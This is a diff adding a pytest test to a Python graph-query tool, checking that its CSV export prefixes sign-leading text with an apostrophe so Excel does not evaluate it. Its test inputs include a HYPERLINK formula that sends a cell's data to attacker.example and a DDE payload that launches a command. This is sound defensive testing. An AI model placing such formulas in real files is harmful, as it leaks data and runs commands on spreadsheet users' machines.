@@ -220,3 +220,35 @@ def test_serve_refuses_an_allowed_host_that_is_not_a_name(given):
     result = CliRunner().invoke(main, ["serve", "--store", "/nonexistent", "--allowed-host", given])
     assert result.exit_code == 2
     assert "--allowed-host" in result.output
+
+
+# ------------------------------------------------------------ exports opened in Excel
+
+
+@pytest.mark.parametrize(
+    "text, written",
+    [
+        # a live link sending the row's other cells to the attacker
+        (
+            '+HYPERLINK("http://attacker.example/?d="&A1;"Bấm vào đây")',
+            '"\'+HYPERLINK(""http://attacker.example/?d=""&A1;""Bấm vào đây"")"',
+        ),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # DDE
+        ("- Sở Tài chính chủ trì", "'- Sở Tài chính chủ trì"),  # a bullet: #NAME? in Excel before
+        ("+ Sở Y tế phối hợp", "'+ Sở Y tế phối hợp"),
+        ("-5", "-5"),  # a signed number is a number
+        ("+3,5", '"+3,5"'),
+        ("Sở Công Thương", "Sở Công Thương"),
+    ],
+)
+def test_text_opening_with_a_sign_is_neutralised_in_the_csv_export(text, written):
+    """Task texts and titles come from documents.  Before: a field opening with '+' or '-' was
+    written as it was, and Excel evaluates such a field as a formula (OWASP ASVS 1.2.10 lists
+    = + - @ tab and NUL): the /tree?format=csv and `query --format csv` files carried a live
+    HYPERLINK and the DDE payload.  Now it opens with an apostrophe, unless it is a number."""
+    import pyoxigraph as ox
+
+    from graph.queries import QueryResult, to_csv
+
+    result = QueryResult(columns=["task"], rows=[{"task": ox.Literal(text)}])
+    assert to_csv(result).removeprefix("\ufeff").split("\r\n")[1] == written
